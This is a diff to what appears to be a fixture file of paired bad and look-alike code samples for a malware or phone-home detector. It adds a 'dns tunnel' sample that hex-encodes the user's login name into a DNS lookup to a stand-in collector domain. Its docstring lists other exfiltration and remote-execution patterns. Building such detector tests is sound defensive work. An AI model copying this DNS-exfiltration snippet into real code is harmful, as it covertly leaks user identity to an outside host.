@@ -2,7 +2,8 @@
 runs when the user calls it, not at install or import time), beside a look-alike that must
 pass: a command taken from a socket, a chat bot or a local server's request and run; a shell
 command fetched from a server; code fetched through an HTTP client object, or downloaded and
-imported; machine code copied into memory and started; a mail account or bot signed in to with credentials written
+imported; machine code copied into memory and started; the user's name spelled into a DNS
+look-up under the code's own domain; a mail account or bot signed in to with credentials written
 in; a CI token or a wallet's private key sent in a body; a key logger; credential files and
 the whole environment sent from a function; a download run by ``mshta``.
 
@@ -313,6 +314,22 @@ def connect(size):
     kernel32 = ctypes.windll.kernel32
     ptr = kernel32.VirtualAlloc(0, size, 0x3000, 0x04)
     kernel32.VirtualFree(ptr, 0, 0x8000)
+""",
+    ),
+    "dns tunnel": (
+        "phone-home",
+        """\
+import binascii, getpass, socket
+
+def connect():
+    label = binascii.hexlify(getpass.getuser().encode()).decode()
+    socket.gethostbyname(label + ".x.collector.example.com")
+""",
+        """\
+import socket
+
+def connect():
+    return socket.gethostbyname(socket.gethostname())
 """,
     ),
     "mshta": (
